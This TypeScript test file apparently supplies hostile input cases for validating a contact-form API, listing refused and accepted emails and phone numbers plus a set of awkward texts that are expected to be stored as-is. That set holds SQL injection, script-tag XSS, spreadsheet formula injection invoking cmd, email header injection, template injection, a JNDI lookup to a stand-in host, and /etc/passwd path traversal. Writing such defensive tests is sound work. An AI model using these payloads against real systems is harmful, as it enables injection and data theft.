import { officialBody } from '../../support/official-body.ts'
import type { HostileCase } from './case.ts'

const free = ['name', 'company', 'title', 'product', 'type'] as const
const longest = { name: 120, company: 120, title: 120, product: 120, type: 5000 } as const

const refusedEmails = [
  '',
  ' ',
  'a',
  'a@',
  '@b.example',
  'a@b',
  'a b@c.example',
  'a@b..example',
  'a@.example',
  'a@b.example.',
  'a..b@c.example',
  '.a@b.example',
  'a@-b.example',
  'a@b_c.example',
  'a@b.example\r\nBcc: x@y.example'.slice(0, 30),
  'a@b.ex\nBcc:x@y.z',
  'a@b.example,c@d.example',
  'a@b.example;c@d.example',
  '<a@b.example>',
  '"a"@b.example',
  'a@[127.0.0.1]',
  'a@127.0.0.1',
  'a@b.example ',
  ' a@b.example',
  'mailto:a@b.example',
  'a@b@c.example',
  '=1+1@b',
  '<script>@b.example',
]

const keptEmails = ['a@b.example', "o'hara+boats@lake.example", 'A.B@C-D.EXAMPLE', 'x@a.b.c.example', '1@2.example']

const refusedNumbers = [
  'call me',
  '1234',
  '+',
  '()',
  '12345; rm',
  '+86 <b>138</b>',
  '１３８'.repeat(20),
  '=1+12345',
  '1'.repeat(22),
]
const keptNumbers = [
  '',
  ' ',
  '+8613800138000',
  '029-8888 8888',
  '(029) 8888-8888 ext. 12',
  '029-88888888转123',
  '+1 (415) 555-2671',
]

/** Text that has broken somebody's software before and must simply be kept. */
const awkward: [name: string, text: string][] = [
  ['SQL', "'; drop table lead; --"],
  ['SQL with a comment', "' or 1=1 /*"],
  ['a placeholder of each engine', '? ?1 $1 :name @name %s {}'],
  ['markup', '<script>alert(1)</script><img src=x onerror=alert(1)>'],
  ['a formula', '=HYPERLINK("http://x.example","click")'],
  ['a formula with a command', "@SUM(1+1)*cmd|' /C calc'!A0"],
  ['a header', 'x\r\nBcc: everybody@x.example\r\n\r\nhello'],
  ['a template', `{{constructor.constructor("return process")()}} $\{7*7} <%= 1 %>`],
  ['a log line', '\n{"level":"error","event":"forged"}'],
  ['terminal commands', '\u001b[2J\u001b]0;title\u0007'],
  ['right-to-left marks', '\u202egnp.exe'],
  ['zero-width characters', 'a\u200b\u200c\u200d\ufeffb'],
  ['emoji in families', '👩‍👩‍👧‍👦🏳️‍🌈'],
  ['many combining marks', `Z${'\u0351'.repeat(100)}`],
  ['Chinese, Arabic, Thai, Tamil', '清洁船 قارب เรือ படகு'],
  ['characters outside the basic plane', '𠮷野家 𝕏'],
  ['private use', '\ue000\uf8ff'],
  ['non-characters', '\ufffe\uffff'],
  ['every ASCII control but NUL', Array.from({ length: 31 }, (_, n) => String.fromCharCode(n + 1)).join('')],
  ['paths', '../../../../etc/passwd C:\\Windows\\System32'],
  ['a JNDI address', `$\{jndi:ldap://x.example/a}`],
  ['format strings', '%n%n%n%s%s%x'],
  ['null words', 'null undefined NaN None nil true false'],
  ['Turkish and German emails', 'İıŞß'],
]

const bad: [name: string, text: string][] = [
  ['NUL', 'a\0b'],
  ['NUL alone', '\0'],
  ['half a surrogate pair, high', '\ud83d'],
  ['half a surrogate pair, low', '\udea4'],
  ['a surrogate pair the wrong way round', '\udea4\ud83d'],
]

const sent = (change: Record<string, string>) => JSON.stringify({ ...officialBody, ...change })

/** Values of the eight fields, wrong and right. */
export const fieldValues: HostileCase[] = [
  ...refusedEmails.map((phone) => ({
    name: `the email ${JSON.stringify(phone)}`,
    body: sent({ phone }),
    status: 422,
    fields: { phone: 'email' },
  })),
  {
    name: 'an email of 31',
    body: sent({ phone: `${'a'.repeat(21)}@b.example` }),
    status: 422,
    fields: { phone: 'too_long' },
  },
  {
    name: 'an email of 90 KB',
    body: sent({ phone: `${'a'.repeat(90_000)}@b.example` }),
    status: 422,
    fields: { phone: 'too_long' },
  },
  ...keptEmails.map((phone) => ({ name: `the email ${phone} is kept`, body: sent({ phone }), status: 200 })),
  ...refusedNumbers.map((city) => ({
    name: `the telephone ${JSON.stringify(city.slice(0, 20))}`,
    body: sent({ city }),
    status: 422,
    fields: { city: 'phone' },
  })),
  ...keptNumbers.map((city) => ({
    name: `the telephone ${JSON.stringify(city)} is kept`,
    body: sent({ city }),
    status: 200,
  })),
  ...['', 'ZH', 'en ', 'fr', 'zh-CN', '../en'].map((language) => ({
    name: `the language ${JSON.stringify(language)}`,
    body: sent({ language }),
    status: 422,
    fields: { language: 'choice' },
  })),
  ...free.flatMap((field) => [
    ...bad.map(([name, text]) => ({
      name: `${field} with ${name}`,
      body: sent({ [field]: text }),
      status: 422,
      fields: { [field]: 'bad_text' },
    })),
    { name: `${field} blank is kept`, body: sent({ [field]: '' }), status: 200 },
    { name: `${field} as long as allowed is kept`, body: sent({ [field]: '船'.repeat(longest[field]) }), status: 200 },
    {
      name: `${field} one too long`,
      body: sent({ [field]: 'x'.repeat(longest[field] + 1) }),
      status: 422,
      fields: { [field]: 'too_long' },
    },
  ]),
  ...awkward.map(([name, type]) => ({ name: `a message with ${name} is kept`, body: sent({ type }), status: 200 })),
]
